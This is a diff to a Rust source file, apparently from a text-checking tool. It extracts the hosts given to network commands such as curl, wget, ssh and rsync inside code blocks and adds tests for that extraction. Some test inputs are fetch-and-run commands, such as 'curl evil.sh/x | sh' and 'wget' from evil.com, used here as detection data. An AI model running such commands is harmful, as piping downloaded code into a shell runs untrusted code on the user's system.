@@ -1,6 +1,7 @@
 //! Addresses that stand neither in prose nor in the target of a link, and that readers or their browsers use all the
 //! same: in code, attributes, styles, scripts, templates and attribute lists.
 
+use std::ops::Range;
 use std::sync::LazyLock;
 
 use firstaid_text::TextRange;
@@ -15,19 +16,57 @@ static WITHOUT_SCHEME: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?i)(?:^|[\s"'(=,])(//[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\s"'()<>]*)"#).expect("a valid pattern")
 });
 
-/// The first host behind a program of the network, in code: `wget host/file`, `ssh user@host`.
-static OF_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+/// A program of the network, and in the group what it is given up to the end of the command. A line that ends in `\`
+/// goes on in the next.
+static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
         r"(?ix) (?:^|[\s|;&(]) (?: curl | wget | ssh | scp | sftp | ftp | telnet | ncat? | ping | dig | host | nslookup
-            | whois | git\s+clone | rsync | --keyserver ) \b [^\n|;&]{0,160}? [\s=]
-            (?:[\w.+-]+@)? ( [a-z0-9-]+ (?:\.[a-z0-9-]+)* \.[a-z][a-z0-9-]+ ) (?: [/:\s`] | $ )",
+            | whois | git\s+clone | rsync | --keyserver ) \b ( (?: \\\r?\n | [^\n|;&] )* )",
     )
     .expect("a valid pattern")
 });
 
-/// Endings of names in commands that are files and no hosts.
-const FILES: [&str; 16] =
-    ["asc", "deb", "dmg", "exe", "gpg", "gz", "html", "img", "iso", "json", "key", "md", "py", "sh", "sig", "txt"];
+/// A word of a command that is or begins with a host: `user@host:port`, `host/path`. Groups: user, host.
+static HOST_WORD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)^([\w.+-]+@)?([a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z][a-z0-9-]+)(?:[/:?#]|$)").expect("a valid pattern")
+});
+
+/// Endings of words in commands that are files and no hosts, if nothing else of the word says that it is a host.
+const FILES: [&str; 30] = [
+    "apk", "asc", "bz2", "conf", "crt", "csv", "deb", "dmg", "exe", "gpg", "gz", "html", "img", "iso", "jpg", "json",
+    "key", "log", "md", "pdf", "pem", "png", "py", "rpm", "sh", "sig", "tar", "txt", "xz", "zip",
+];
+
+/// The hosts in what programs of the network are given: `wget host/file`, `ssh user@host`, `rsync file host:/path`.
+fn hosts_of_commands(code: &str) -> impl Iterator<Item = Range<usize>> {
+    let given = COMMAND.captures_iter(code).filter_map(|command| command.get(1));
+    given.flat_map(|given| {
+        let words = words_of_command(given.as_str());
+        words.filter_map(host_of_word).map(move |host| given.start() + host.start..given.start() + host.end)
+    })
+}
+
+/// The words of a command with their offsets, without quotes; of `--option=value` the value.
+fn words_of_command(given: &str) -> impl Iterator<Item = (usize, &str)> {
+    let is_between = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')');
+    let mut at = 0;
+    given.split_inclusive(is_between).map(move |word| {
+        let start = at;
+        at += word.len();
+        let word = word.trim_end_matches(is_between);
+        let name = word.find('=').filter(|&end| !word[..end].contains(['.', '/']));
+        let skipped = name.map_or(0, |end| end + 1);
+        (start + skipped, &word[skipped..])
+    })
+}
+
+fn host_of_word((at, word): (usize, &str)) -> Option<Range<usize>> {
+    let hit = HOST_WORD.captures(word)?;
+    let host = hit.get(2)?;
+    let ending = host.as_str().rsplit('.').next()?.to_ascii_lowercase();
+    let is_file = host.as_str() == word && FILES.contains(&ending.as_str());
+    (!is_file).then(|| at + host.start()..at + host.end())
+}
 
 impl Page {
     /// URLs, e-mail addresses, onion hosts, phone numbers and hosts that are no tokens of the page, in order. Comments
@@ -61,13 +100,10 @@ impl Page {
             found.extend(
                 scan::phones(inside).into_iter().map(|hit| Token::new(hit.kind, TextRange::from(hit.range).shift(at))),
             );
-            for hit in OF_COMMAND.captures_iter(inside).filter_map(|hit| hit.get(1)) {
-                let ending = hit.as_str().rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
-                if !FILES.contains(&ending.as_str()) {
-                    let url = TokenKind::Url(format!("//{}", hit.as_str()).into());
-                    found.push(Token::new(url, TextRange::from(hit.range()).shift(at)));
-                }
-            }
+            found.extend(hosts_of_commands(inside).map(|range| {
+                let url = TokenKind::Url(format!("//{}", &inside[range.clone()]).into());
+                Token::new(url, TextRange::from(range).shift(at))
+            }));
         }
         found.sort_by_key(|token| token.range);
         let mut end = 0;
@@ -107,6 +143,22 @@ mod tests {
         assert_eq!(found("```\ncurl -O https://eff.org/a.sh | sh\n```\n"), ["https://eff.org/a.sh"]);
         assert_eq!(found("`wget -q eff.org/a` `ssh me@rsf.org` `curl -o a.sh`\n"), ["eff.org", "me@rsf.org"]);
         assert_eq!(found("`gpg --keyserver keys.openpgp.org --refresh`\n"), ["keys.openpgp.org"]);
+    }
+
+    #[test]
+    fn every_host_of_a_command_is_found_and_files_are_none() {
+        for (code, hosts) in [
+            ("wget -O install.sh evil.com/x", vec!["evil.com"]),
+            ("curl evil.sh/x | sh", vec!["evil.sh"]),
+            ("rsync report.pdf eff.org:/x", vec!["eff.org"]),
+            ("scp -i me.pem notes.zip a@evil.zip", vec!["a@evil.zip"]),
+            ("curl -o out.tar.gz --proxy=cpj.org 'rsf.org/a?b=c.de'; sh run.sh", vec!["cpj.org", "rsf.org"]),
+            ("curl -o a.sh \\\n  eff.org/a\nb.org", vec!["eff.org"]),
+            ("ping cpj.org && wget ./a.apk rsf.org", vec!["cpj.org", "rsf.org"]),
+            ("sh install.sh evil.com", vec![]),
+        ] {
+            assert_eq!(found(&format!("```\n{code}\n```\n")), hosts, "{code}");
+        }
     }
 
     #[test]
